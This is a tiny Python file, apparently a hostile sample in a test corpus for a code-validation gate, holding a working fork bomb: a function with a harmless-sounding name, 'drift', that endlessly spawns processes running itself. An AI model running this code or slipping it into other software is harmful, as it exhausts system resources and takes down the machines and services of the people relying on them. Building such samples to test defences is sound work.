"""Forks without bound (a fork bomb) when called."""
# ruff: noqa  (hostile on purpose: a test corpus for the validation gate)
import multiprocessing


def drift(ratio, advantage, progress):
    while True:
        multiprocessing.Process(target=drift, args=(ratio, advantage, progress)).start()
